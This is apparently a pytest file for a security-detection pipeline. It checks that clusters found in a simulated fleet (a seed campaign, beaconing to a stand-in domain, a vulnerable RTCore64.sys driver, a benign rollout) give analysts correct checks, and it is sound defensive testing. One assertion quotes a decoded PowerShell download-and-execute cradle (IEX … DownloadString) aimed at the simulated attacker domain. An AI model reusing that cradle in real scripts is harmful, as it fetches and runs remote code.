"""On a simulated fleet, the checks name what the analyst must look at (task I11).

simulate -> ingest -> detect, as ``test_fleet_detection.py`` does (seed 3:
the seed campaign, beaconing, lateral movement, a vulnerable driver and a
44-host software rollout among benign fleet activity).
"""

from __future__ import annotations

import re
from datetime import datetime

import pytest

from analytics.checks import BEHAVIOUR_STEPS
from tests.analytics.simulated import simulated_detection


@pytest.fixture(scope="module")
def detection(tmp_path_factory):
    result, truth = simulated_detection(tmp_path_factory.mktemp("fleet-i11"), hosts=120, days=2, seed=3, density=0.3)
    return [c.to_contract() for c in result.clusters], truth


def _with_pivot(contracts, value):
    return next(c for c in contracts if c["pivot"]["value"] == value)


def test_the_seed_campaign_checks_name_its_domain_and_its_decoded_command(detection):
    contracts, truth = detection
    seed = next(t for t in truth if t.is_seed)
    cluster = next(c for c in contracts if set(c["hosts"]) == seed.hosts and c["pivot"]["type"] == "domain")
    domain = cluster["pivot"]["value"]
    assert ("domain", domain) in seed.indicators
    checks = cluster["explanation"]["checks"]
    assert 1 <= len(checks) <= 6
    positive = [f["name"] for f in cluster["explanation"]["features"] if f["contribution"] > 0]
    # what the hosts did first (the most contributing behaviour), before "look for a deployment job"
    assert checks[0]["feature"] == next(name for name in positive if name in BEHAVIOUR_STEPS)
    assert checks[0]["feature"] not in ("first_contact_spread_min", "burst_hosts")
    text = " ".join(c["check"] for c in checks)
    assert domain in text
    # The decoded -enc command, quoted (cut to 80 characters like the summary).
    assert "read the decoded command \"IEX (New-Object Net.WebClient).DownloadString('http://" + domain in text
    assert any("deployment" in c["benign_if"] for c in checks)  # a fan-out this fast could still be a push
    assert all(c["benign_if"] for c in checks)


def test_the_rollout_checks_say_a_deployment_would_make_it_benign(detection):
    contracts, _ = detection
    rollout = _with_pivot(contracts, "deploy.corp.example")
    step, *rest = rollout["explanation"]["checks"]
    # on this small fleet the scorer is fitted on fewer than MIN_CONFIDENT_CANDIDATES rows: the only other step says so
    assert [(c["feature"], "too few to tell" in c["check"]) for c in rest] == [(None, True)] * len(rest)
    assert rollout["score_confidence"] == ("low" if rest else "normal")
    assert "deploy.corp.example" in step["check"] and "deployagent.exe → msiexec.exe" in step["check"]
    assert "deployment" in step["benign_if"]


def test_the_vulnerable_driver_checks_give_its_digest(detection):
    contracts, _ = detection
    driver = _with_pivot(contracts, r"C:\Windows\Temp\RTCore64.sys")
    # the driver's own digest: the cluster may hold other builds by theirs (sc.exe's, projection 15)
    digests = [k["key"] for k, e in zip(driver["entity_keys"], driver["entities"], strict=True)
               if len(k["key"]) == 64 and e["value"].endswith("RTCore64.sys")]
    assert len(digests) == 1
    # the driver step (a driver from outside System32\drivers) names the digest; the install step then does not repeat it
    assert any(c["feature"] == "driver_outside_drivers_dir" and digests[0] in c["check"]
               for c in driver["explanation"]["checks"])


def test_the_beacon_checks_quote_how_regular_the_contacts_were(detection):
    contracts, _ = detection
    beacon = _with_pivot(contracts, "api.metrics-sync-cloud.example")
    (step,) = [c for c in beacon["explanation"]["checks"] if c["feature"] == "repeat_contacts"]
    # every ~10 minutes with 20 % jitter: measured from the kept contact times (task BEACON)
    hosts = len(beacon["hosts"])
    assert f"contacts every 10 min ± 1 min on {hosts} of {hosts} hosts" in step["check"]
    features = beacon["features"]
    assert features["contact_regular_hosts"] == features["contact_measured_hosts"] == len(beacon["hosts"])
    assert 0.05 < features["contact_gap_cv"] < 0.2


def test_the_beacon_deployment_step_says_which_start_time_it_is(detection):
    """The implant runs from 00:40-01:10, its first beacon is at 01:15: the cluster's first sighting
    (the page's header, the host table) is the implant's, the step's period the domain's first contacts.
    The step says both, so an analyst knows which time to search for (review U5B #1)."""
    contracts, _ = detection
    beacon = _with_pivot(contracts, "api.metrics-sync-cloud.example")
    (step,) = [c["check"] for c in beacon["explanation"]["checks"]
               if c["feature"] in ("first_contact_spread_min", "burst_hosts")]
    first_seen = datetime.fromisoformat(beacon["first_seen"].replace("Z", "+00:00"))
    assert first_seen.strftime("%H:%M") < "01:15"  # the implant's start, before any beacon
    period = re.search(r"at (\d{4}-\d\d-\d\d) (\d\d:\d\d)–(\d\d:\d\d)Z", step)
    assert period is not None, step
    assert "01:15" <= period.group(2) <= period.group(3) <= "01:30", step  # the domain's first contacts
    assert f"({first_seen.strftime('%H:%MZ')}, the cluster's first sighting, is the earliest of any member" in step
    assert step.index(period.group(0)) < step.index("look for a deployment job")
